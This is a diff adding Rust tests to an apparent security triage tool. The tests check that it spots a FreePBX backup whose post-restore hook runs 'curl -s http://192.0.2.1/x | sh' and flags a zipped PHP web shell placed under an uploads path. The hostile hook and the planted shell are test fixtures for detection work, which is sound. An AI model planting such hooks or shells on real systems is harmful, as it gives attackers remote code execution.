@@ -118,3 +118,54 @@ fn a_replaced_program_is_found_when_packages_are_verified() {
     let answer = env.triage(["scan", "host", "--format", "jsonl"]).expect(0);
     assert!(!answer.stdout.contains("TR-PACKAGE-0001"), "{}", answer.stdout);
 }
+
+/// A backup of FreePBX, as its backup module lays it, that runs `hook` after it is restored.
+fn freepbx_backup(hook: &str) -> Vec<u8> {
+    let metadata = format!(
+        r#"{{ "modules": [ {{ "module": "core", "version": "17.0.18.33" }} ],
+  "backupInfo": {{ "backup_name": "nightly", "prere_hook": "", "postre_hook": "{hook}", "custom_files": "[]" }} }}"#
+    );
+    let files = [
+        ("modulejson/Core.json", r#"{ "module": "core", "files": [], "configs": { "settings": {} } }"#),
+        ("files/etc/asterisk/voicemail.conf", "[general]\nformat=wav\n"),
+        ("metadata.json", &metadata),
+    ];
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    for (name, content) in files {
+        let mut header = tar::Header::new_ustar();
+        header.set_size(content.len() as u64);
+        header.set_mode(0o644);
+        tar.append_data(&mut header, name, content.as_bytes()).unwrap();
+    }
+    tar.into_inner().unwrap().finish().unwrap()
+}
+
+#[test]
+fn a_freepbx_backup_is_answered_for_in_one_line() {
+    let env = TestEnvironment::new();
+    std::fs::write(env.at("good.tar.gz"), freepbx_backup("")).unwrap();
+    let answer = env.triage(["scan", "good.tar.gz"]).expect(0);
+    assert!(answer.stderr.contains("a FreePBX backup (tar in gzip) of 3 objects"), "{}", answer.stderr);
+    let said = "This is a FreePBX backup (version 15 or later); nothing was found in it that speaks against restoring it. No evidence";
+    assert!(answer.stderr.contains(said), "{}", answer.stderr);
+    std::fs::write(env.at("bad.tar.gz"), freepbx_backup("curl -s http://192.0.2.1/x | sh")).unwrap();
+    let answer = env.triage(["scan", "bad.tar.gz"]).expect(2);
+    let said = "This is a FreePBX backup (version 15 or later) that is not safe to restore. Compromised";
+    assert!(answer.stderr.contains(said), "{}", answer.stderr);
+    assert!(answer.stdout.contains("TR-BACKUP-0001") && answer.stdout.contains("TR-BACKUP-0009"), "{}", answer.stdout);
+}
+
+#[test]
+fn a_playbook_leaves_an_archive_that_somebody_keeps_where_it_is() {
+    let env = TestEnvironment::new();
+    env.clean_host();
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    zip.start_file("site/uploads/img.php", zip::write::SimpleFileOptions::default()).unwrap();
+    std::io::Write::write_all(&mut zip, SHELL.as_bytes()).unwrap();
+    let zip = zip.finish().unwrap().into_inner();
+    env.put("root/samples.zip", &zip);
+    let answer = env.triage(["scan", "host/root", "--root", "host", "--format", "jsonl"]);
+    assert!(answer.stdout.contains(r#""path":"/root/samples.zip""#), "{}", answer.stdout);
+    assert!(answer.stdout.contains(r#""verdict":"suspicious""#), "{}", answer.stdout);
+    env.triage(["plan", "host/root", "--root", "host", "--playbook", "freepbx/web-shell", "-o", "plan.json"]).expect(0);
+}
